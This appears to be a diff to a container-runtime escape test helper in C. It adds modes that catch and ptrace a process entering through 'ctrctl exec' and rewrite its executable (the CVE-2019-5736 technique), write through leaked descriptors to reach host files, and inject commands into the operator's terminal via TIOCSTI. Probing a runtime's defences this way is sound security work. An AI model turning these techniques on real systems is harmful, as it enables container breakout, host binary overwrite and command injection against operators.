@@ -539,6 +539,261 @@ static int mode_idle(int argc, char **argv) {
         return 0;
 }
 
+/* ---- entering a container: ctrctl exec */
+
+/* "Seccomp:\tN" of /proc/PID/status: readable even for a process we may not trace; -1 when unknown */
+static int seccomp_mode_of(pid_t pid) {
+        char path[64], buf[4096];
+        snprintf(path, sizeof(path), "/proc/%d/status", (int) pid);
+        int fd = open(path, O_RDONLY | O_CLOEXEC);
+        ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf) - 1);
+        if (fd >= 0)
+                close(fd);
+        if (n <= 0)
+                return -1;
+        buf[n] = '\0';
+        char *s = strstr(buf, "\nSeccomp:");
+        return s ? atoi(s + strlen("\nSeccomp:")) : -1;
+}
+
+/* The state letter and the command name of /proc/PID/stat; false when the process is gone */
+static bool stat_of(pid_t pid, char *state, char comm[32]) {
+        char path[64], buf[512];
+        snprintf(path, sizeof(path), "/proc/%d/stat", (int) pid);
+        int fd = open(path, O_RDONLY | O_CLOEXEC);
+        ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf) - 1);
+        if (fd >= 0)
+                close(fd);
+        if (n <= 0)
+                return false;
+        buf[n] = '\0';
+        char *l = strchr(buf, '('), *r = strrchr(buf, ')');
+        if (!l || !r || r[1] == '\0')
+                return false;
+        snprintf(comm, 32, "%.*s", (int) (r - l - 1), l + 1);
+        *state = r[2];
+        return true;
+}
+
+typedef struct Catch {
+        int exe_fds[64];
+        size_t n_exe;
+        size_t n_unfiltered, n_opened, n_seized;
+} Catch;
+
+/* One look at a stopped process: its /proc/PID/exe, then PTRACE_SEIZE. True once the exe was opened. */
+static bool catch_probe(Catch *k, pid_t pid) {
+        char path[64], target[256] = "";
+        int mode = seccomp_mode_of(pid), fd;
+        bool opened = false;
+
+        snprintf(path, sizeof(path), "/proc/%d/exe", (int) pid);
+        fd = open(path, O_RDONLY | O_CLOEXEC);
+        if (fd >= 0) {
+                (void) readlink(path, target, sizeof(target) - 1);
+                printf("exec-catch open %s (Seccomp:%d): ok -> %s\n", path, mode, target);
+                if (k->n_exe < 64)
+                        k->exe_fds[k->n_exe++] = fd;
+                else
+                        close(fd);
+                k->n_opened++;
+                opened = true;
+                if (mode == 0)
+                        escaped = true;
+        }
+        if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
+                /* Traced before its execve: its registers and memory are ours, and with Seccomp:0 so is every
+                 * syscall it makes for us, unfiltered. Held for a second, for the host to see it traced. */
+                mode = seccomp_mode_of(pid);
+                printf("exec-catch seize %d: ok, Seccomp:%d seized\n", (int) pid, mode);
+                fflush(stdout);
+                k->n_seized++;
+                escaped = true;
+                sleep(1);
+                (void) ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
+                (void) waitpid(pid, NULL, __WALL);
+                (void) ptrace(PTRACE_DETACH, pid, NULL, NULL);
+                opened = true;
+        }
+        fflush(stdout);
+        return opened;
+}
+
+/* A process caught without a seccomp filter: the one entering. Single-steps it by signals (SIGCONT, then
+ * SIGSTOP as soon as it is seen running) and probes it at each stop, until it executed something else, was
+ * opened or seized, or is gone. */
+static void catch_follow(Catch *k, pid_t pid) {
+        char first[32], comm[32], state;
+
+        if (!stat_of(pid, &state, first))
+                return;
+        k->n_unfiltered++;
+        printf("exec-catch caught %d (%s) stopped with Seccomp:0\n", (int) pid, first);
+        for (unsigned step_n = 0; step_n < 200000; step_n++) {
+                unsigned spins = 0;
+
+                while (stat_of(pid, &state, comm) && state != 'T' && state != 't' && spins++ < 100000)
+                        sched_yield();
+                if (!stat_of(pid, &state, comm) || strcmp(comm, first) != 0) {
+                        printf("exec-catch followed %d for %u steps, now %s\n", (int) pid, step_n, comm);
+                        break;          /* gone, or executed the command */
+                }
+                if (catch_probe(k, pid))
+                        break;
+                /* let it run until it is seen running, then stop it: a step of a few microseconds */
+                kill(pid, SIGCONT);
+                spins = 0;
+                while (stat_of(pid, &state, comm) && (state == 'T' || state == 't') && spins++ < 100000)
+                        ;
+                kill(pid, SIGSTOP);
+        }
+}
+
+/* exec-catch DONE: catches whatever enters the container (the process "ctrctl exec" forks into its PID
+ * namespace) the way an attacker would, deterministically: PIDs of a namespace are handed out in order, so it
+ * sends SIGSTOP (which cannot be blocked) to the next one until that exists; the new process stops at once,
+ * at its first return to user space. One without a seccomp filter is the entering process: it is then
+ * single-stepped by signals on its way to execve (SIGCONT, SIGSTOP as soon as it is seen running: steps of
+ * a few microseconds) and, at every stop, its /proc/PID/exe opened and PTRACE_SEIZE tried. A seized process
+ * is held for a second (so the host can see it traced) and reported with its filter mode ("Seccomp:0
+ * seized": whatever it is made to do next runs unfiltered). Once the file DONE exists, every exe it opened
+ * is rewritten through /proc/self/fd/N (the CVE-2019-5736 step: were it the host's ctrctl, the host's
+ * binary). */
+static int mode_exec_catch(int argc, char **argv) {
+        (void) argc;
+        Catch k = {};
+        pid_t self = getpid(), next = self + 1;
+
+        printf("exec-catch watching\n");
+        fflush(stdout);
+        for (unsigned long i = 0; !stopping; i++) {
+                if (kill(next, SIGSTOP) == 0) {
+                        if (seccomp_mode_of(next) == 0)
+                                catch_follow(&k, next);
+                        kill(next, SIGCONT);
+                        next++;
+                        fflush(stdout);
+                        continue;
+                }
+                if (i % 1024 != 0)
+                        continue;
+                if (access(argv[1], F_OK) == 0)
+                        break;
+                /* a PID taken while we looked elsewhere: start again after the highest there is */
+                DIR *d = opendir("/proc");
+                struct dirent *de;
+                pid_t max = 0;
+                while (d && (de = readdir(d)))
+                        if (atoi(de->d_name) > max && atoi(de->d_name) != self)
+                                max = atoi(de->d_name);
+                if (d)
+                        closedir(d);
+                if (max >= next)
+                        next = max + 1;
+        }
+
+        printf("exec-catch saw %zu unfiltered, opened %zu exe, seized %zu\n", k.n_unfiltered, k.n_opened,
+               k.n_seized);
+        for (size_t i = 0; i < k.n_exe; i++) {
+                char path[64];
+                snprintf(path, sizeof(path), "/proc/self/fd/%d", k.exe_fds[i]);
+                int fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
+                if (step("exec-catch", "rewrite exe", fd) == 0) {
+                        (void) step("exec-catch", "write", write_all(fd, "#!/bin/sh\necho rewritten by the container\n"));
+                        close(fd);
+                }
+                close(k.exe_fds[i]);
+        }
+        return 0;
+}
+
+/* fds-escape NAME CANARY: tries to reach a host directory through whatever it was given: every descriptor
+ * it holds that is a directory, every /proc/self/fd link, its working directory and up to 16 levels above
+ * it. In each it creates NAME and truncates and writes CANARY (a file name). */
+static int mode_fds_escape(int argc, char **argv) {
+        (void) argc;
+        char what[128];
+
+        for (int fd = 0; fd < 1024; fd++) {
+                struct stat st;
+                if (fstat(fd, &st) < 0)
+                        continue;
+                printf("fds-escape holds fd %d (mode %o)\n", fd, st.st_mode & S_IFMT);
+                snprintf(what, sizeof(what), "/proc/self/fd/%d", fd);
+                int dfd = open(what, O_PATH | O_DIRECTORY | O_CLOEXEC);
+                for (int via = 0; via < 2; via++) {
+                        int dir = via == 0 ? fd : dfd;
+                        if (dir < 0 || (via == 0 && !S_ISDIR(st.st_mode)))
+                                continue;
+                        snprintf(what, sizeof(what), "%s %d create", via ? "/proc/self/fd" : "fd", fd);
+                        int c = openat(dir, argv[1], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
+                        if (step("fds-escape", what, c) == 0)
+                                close(c);
+                        snprintf(what, sizeof(what), "%s %d canary", via ? "/proc/self/fd" : "fd", fd);
+                        c = openat(dir, argv[2], O_WRONLY | O_TRUNC | O_CLOEXEC);
+                        if (step("fds-escape", what, c) == 0) {
+                                (void) write_all(c, "overwritten by the container\n");
+                                close(c);
+                        }
+                }
+                if (dfd >= 0)
+                        close(dfd);
+        }
+
+        char cwd[4096];
+        printf("fds-escape cwd %s\n", getcwd(cwd, sizeof(cwd)) ? cwd : "(unreachable)");
+        for (int up = 0; up <= 16; up++) {
+                char path[4096] = "";
+                for (int i = 0; i < up; i++)
+                        strcat(path, "../");
+                size_t len = strlen(path);
+                snprintf(path + len, sizeof(path) - len, "%s", argv[1]);
+                snprintf(what, sizeof(what), "cwd%s%.*s create", up ? "/" : "", (int) len, path);
+                int c = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
+                if (c >= 0) {
+                        (void) step("fds-escape", what, c);
+                        close(c);
+                }
+                snprintf(path + len, sizeof(path) - len, "%s", argv[2]);
+                c = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
+                if (c >= 0) {
+                        snprintf(what, sizeof(what), "cwd up %d canary", up);
+                        (void) step("fds-escape", what, c);
+                        (void) write_all(c, "overwritten by the container\n");
+                        close(c);
+                }
+        }
+        return 0;
+}
+
+/* tiocsti TEXT: types TEXT and a newline into the terminal on each of its stdio descriptors and into its
+ * controlling terminal (/dev/tty) with ioctl(TIOCSTI): whoever reads that terminal next (the operator's
+ * shell, after ctrctl exec returns) runs it. */
+static int mode_tiocsti(int argc, char **argv) {
+        (void) argc;
+        int tty = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
+        step("tiocsti", "open /dev/tty", tty);
+        for (int i = 0; i < 4; i++) {
+                int fd = i < 3 ? i : tty;
+                char what[32];
+
+                if (fd < 0 || !isatty(fd))
+                        continue;
+                snprintf(what, sizeof(what), "TIOCSTI on %s", i < 3 ? (const char *[]) { "stdin", "stdout", "stderr" }[i] : "/dev/tty");
+                long r = 0;
+                for (const char *c = argv[1]; *c && r == 0; c++)
+                        r = ioctl(fd, TIOCSTI, c);
+                if (r == 0)
+                        r = ioctl(fd, TIOCSTI, "\n");
+                if (step("tiocsti", what, r) == 0)
+                        break;  /* once is enough: the line is in the terminal's input now */
+        }
+        if (tty >= 0)
+                close(tty);
+        printf("tiocsti done\n");
+        return 0;
+}
+
 /* ---- the table */
 
 static const struct mode {
@@ -553,6 +808,8 @@ static const struct mode {
         { "clone",         0, mode_clone,         "" },
         { "clone3",        0, mode_clone3,        "" },
         { "create",        2, mode_create,        "PATH DATA" },
+        { "exec-catch",    1, mode_exec_catch,    "DONE" },
+        { "fds-escape",    2, mode_fds_escape,    "NAME CANARY" },
         { "fsopen",        2, mode_fsopen,        "FSTYPE TARGET" },
         { "handle",        5, mode_handle,        "MOUNTPATH INO GEN RELPATH DATA" },
         { "idle",          0, mode_idle,          "" },
@@ -573,6 +830,7 @@ static const struct mode {
         { "release-agent", 3, mode_release_agent, "DIR AGENT NAME" },
         { "remount-rw",    1, mode_remount_rw,    "TARGET" },
         { "swap-loop",     3, mode_swap_loop,     "SECONDS A B [A B…]" },
+        { "tiocsti",       1, mode_tiocsti,       "TEXT" },
         { "umount",        1, mode_umount,        "TARGET" },
         { "unshare",       0, mode_unshare,       "" },
         { "userfaultfd",   0, mode_userfaultfd,   "" },
